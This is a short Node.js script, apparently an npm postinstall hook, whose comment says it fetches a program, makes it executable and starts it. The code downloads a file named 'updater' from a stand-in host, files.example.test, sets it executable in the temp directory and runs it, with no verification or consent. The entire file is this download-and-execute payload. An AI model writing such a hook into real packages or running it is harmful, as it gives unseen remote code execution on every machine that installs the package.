// A program is fetched, made executable and started; runs: postinstall
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const child = require("child_process");
const target = path.join(os.tmpdir(), "updater");
https.get("https://files.example.test/updater", (response) => {
  const out = fs.createWriteStream(target);
  response.pipe(out);
  out.on("finish", () => {
    fs.chmodSync(target, 0o755);
    child.exec(target);
  });
});
